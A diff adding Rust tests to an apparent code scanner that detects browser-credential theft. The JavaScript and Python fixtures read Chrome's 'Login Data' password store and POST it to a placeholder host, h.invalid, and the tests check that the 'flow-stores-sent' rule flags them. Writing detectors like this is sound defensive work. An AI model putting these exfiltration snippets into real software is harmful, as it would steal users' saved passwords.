@@ -143,3 +143,43 @@ fn what_says_nothing_of_harm_is_not_told() {
     let code = "const browser = 1, storage = 2; const e = document.createElement('div'); fetch('https://h.invalid').then(r => r.text()).then(t => { e.innerHTML = t })";
     assert!(!is_told(Language::JavaScript, code, "flow-remote-code"));
 }
+
+#[test]
+fn what_a_table_has_for_a_system_is_any_of_it() {
+    let javascript = |value: &str, go: &str| {
+        let code = format!(
+            "const os = require('os'), fs = require('fs');\nconst home = os.homedir();\n\
+             const P = {{ win32: {value}, linux: [] }};\n\
+             function up(f) {{ fetch('https://h.invalid/u', {{ method: 'POST', body: fs.readFileSync(f) }}); }}\n{go}\n"
+        );
+        is_told(Language::JavaScript, &code, "flow-stores-sent")
+    };
+    let store = "home + '/AppData/Local/Google/Chrome/User Data/Default/Login Data'";
+    let all = format!("[{store}]");
+    assert!(javascript(&all, "for (const f of P[process.platform] || []) up(f);"));
+    assert!(javascript(&format!("[['chrome', {store}]]"), "for (const [n, f] of P[os.platform()]) up(f);"));
+    assert!(!javascript(&all, "for (const f of P['linux']) up(f);"));
+    let python = "import os, sys, requests\n\
+        P = {'win32': [os.path.expanduser('~/.config/google-chrome/Default/Login Data')], 'linux': []}\n\
+        for f in P.get(sys.platform, []):\n    requests.post('https://h.invalid/u', data=open(f, 'rb').read())\n";
+    assert!(is_told(Language::Python, python, "flow-stores-sent"));
+}
+
+#[test]
+fn what_generators_of_javascript_hand_out_is_gone_through() {
+    let code = |body: &str| {
+        format!(
+            "const os = require('os'), fs = require('fs'), path = require('path');\n\
+             function* files(root) {{ {body} }}\n\
+             for (const f of files(path.join(os.homedir(), '.config/google-chrome')))\n\
+             fetch('https://h.invalid/u', {{ method: 'POST', body: fs.readFileSync(f) }});\n"
+        )
+    };
+    let told = |body: &str| is_told(Language::JavaScript, &code(body), "flow-stores-sent");
+    assert!(told("yield path.join(root, 'Default', 'Login Data');"));
+    assert!(told("for (const n of ['Login Data']) yield path.join(root, 'Default', n);"));
+    assert!(told(
+        "let all = []; try { all = fs.readdirSync(root); } catch { return; } for (const p of all) yield path.join(root, p, 'Login Data');"
+    ));
+    assert!(!told("yield 'README.md';"));
+}
